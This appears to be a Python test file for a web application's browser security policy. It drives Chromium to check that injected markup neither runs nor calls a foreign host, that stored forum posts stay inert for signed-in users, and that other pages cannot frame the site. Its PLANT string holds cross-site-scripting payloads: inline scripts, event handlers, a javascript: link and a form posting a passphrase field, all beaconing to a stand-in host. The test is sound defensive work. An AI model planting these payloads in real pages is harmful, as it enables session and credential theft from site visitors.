"""The pages' policy as a real browser keeps it: what is planted in a page neither runs nor calls home.

The same plant in the same page without its policy does both: otherwise the browser's silence would say nothing.
"""

import time

import pytest

from deploy.screenshots.chromium import Chromium
from tests import tried
from tests.abuse.browser import Street, a_browser, street
from tests.abuse.services import Here
from tests.identity.conftest import PASSPHRASE

PLANT = """
<script>document.title = 'an inline script ran'; fetch('{0}/inline-fetch'); new Image().src = '{0}/inline-image'</script>
<script src="{0}/script-of-another-host"></script>
<img src="{0}/image"><img src="/nothing-here" onerror="new Image().src = '{0}/handler'">
<svg onload="new Image().src = '{0}/svg-handler'"></svg>
<link rel="stylesheet" href="{0}/style-sheet"><style>h1 {{ background: url('{0}/style-element') }}</style>
<p style="background: url('{0}/style-attribute')">words</p>
<iframe src="{0}/frame"></iframe><object data="{0}/object"></object><embed src="{0}/embed">
<iframe srcdoc="<script>new Image().src = '{0}/frame-document'</script>"></iframe>
<video src="{0}/video"></video><link rel="manifest" href="{0}/manifest">
<form id="planted" action="{0}/form" method="post"><input name="passphrase" value="what was typed"></form>
<a id="script-link" href="javascript:void(document.title='a script link ran')">words</a>
"""
WITHOUT_POLICY = frozenset({  # at least these are asked for when nothing forbids it
    "/inline-fetch", "/inline-image", "/script-of-another-host", "/image", "/handler", "/style-sheet",
    "/style-element", "/style-attribute", "/frame", "/form",
})  # fmt: skip


@pytest.fixture(scope="module")
def a_street(here: Here):  # type: ignore[no-untyped-def]
    browser = a_browser()
    if browser is None:
        yield None
        return
    with browser, street(here, browser) as made:
        yield made


def awaited(a_street: Street, paths: frozenset[str]) -> None:
    """Until the foreign host was asked for all of these; who comes to check says what was missing."""
    deadline = time.monotonic() + 15
    while not paths <= set(a_street.foreign.asked) and time.monotonic() < deadline:
        time.sleep(0.02)


def visited(a_street: Street, path: str, *, expected: frozenset[str] = frozenset()) -> tuple[str, set[str]]:
    """(the page's title, what the foreign host was asked for) after a visit that ends there.

    `expected` is waited for, on a page without its policy.
    """
    a_street.planted.html, a_street.planted.bare = PLANT.format(a_street.foreign.url), bool(expected)
    a_street.foreign.asked.clear()

    def visit(browser: Chromium) -> str:
        browser.open(a_street.ours + path)
        browser.run("document.getElementById('script-link').click()")
        browser.run(f"fetch('{a_street.foreign.url}/fetch').catch(() => 0)")
        title = str(browser.run("document.title"))
        awaited(a_street, expected - {"/form"})
        browser.run("document.getElementById('planted').submit()")
        awaited(a_street, expected)  # to leave the page would stop what is just being asked for
        browser.open(a_street.foreign.url + "/fence")  # whatever was asked for before is there before it
        return title

    title = a_street.drive(visit)
    a_street.planted.html, a_street.planted.bare = "", False
    return title, set(a_street.foreign.asked) - {"/fence"}


@pytest.mark.parametrize("path", ["/", "/help", "/join", "/sign-in", "/recover", "/receipt", "/nowhere"])
def test_nothing_planted_in_a_page_runs_or_calls_home(a_street: Street | None, path: str) -> None:
    if a_street is None:
        return  # the run's end says so, and tests/abuse/test_pages.py has read the policy
    title, asked = visited(a_street, path)
    assert "ran" not in title
    assert asked == set()
    tried.count("abuse", "plants in a browser", PLANT.count("{0}") + 2)


def test_without_its_policy_the_page_would_be_the_attackers(a_street: Street | None) -> None:
    if a_street is None:
        return
    title, asked = visited(a_street, "/sign-in", expected=WITHOUT_POLICY)
    assert "ran" in title
    assert asked >= WITHOUT_POLICY


def test_what_is_stored_runs_nowhere_for_whoever_is_signed_in(here: Here, a_street: Street | None) -> None:
    if a_street is None:
        return
    canary = PLANT.format(a_street.foreign.url).replace("\n", " ")
    bearer = here.bearer("forum", "member")
    thread = here.makes(
        "forum", "/threads", {"title": canary[:120], "wish": "listen", "body": canary}, headers=bearer
    )
    a_street.foreign.asked.clear()
    name = here.accounts["member"].sign_in_name

    def visit(browser: Chromium) -> list[str]:
        browser.open(f"{a_street.ours}/sign-in")
        browser.send_form("/sign-in", sign_in_name=name, passphrase=PASSPHRASE)
        seen = [str(browser.run("document.cookie"))]
        for path in ("/forum", f"/forum/threads/{thread['id']}", "/for-you", "/me"):
            browser.open(a_street.ours + path)
            seen.append(str(browser.run("location.pathname + ' ' + document.title")))
        seen.append(
            str(browser.run("try { document.body.innerHTML = '<b>x</b>'; 'taken' } catch (e) { e.name }"))
        )
        browser.open(a_street.foreign.url + "/fence")
        return seen

    cookie, *pages, markup = a_street.drive(visit)
    assert "visit" not in cookie, "the session is for no script"
    assert [page.split(" ")[0] for page in pages[:2]] == ["/forum", f"/forum/threads/{thread['id']}"]
    assert not [page for page in pages if page.endswith(" ran")]
    assert markup == "TypeError", "no script of ours writes markup from text (trusted types)"
    assert a_street.foreign.asked == ["/fence"]


def test_no_other_page_may_frame_ours(a_street: Street | None) -> None:
    if a_street is None:
        return
    a_street.foreign.page = f"<title>foreign</title><iframe src='{a_street.ours}/sign-in'></iframe>"

    def visit(browser: Chromium) -> str:
        browser.open(a_street.foreign.url + "/framing")
        (child,) = browser.ask("Page.getFrameTree")["frameTree"]["childFrames"]
        return str(child["frame"]["url"])

    try:
        assert a_street.drive(visit).startswith("chrome-error:")
        a_street.planted.bare = True
        assert a_street.drive(visit).startswith(a_street.ours)
    finally:
        a_street.planted.bare = False
        a_street.foreign.page = "<title>foreign</title>"
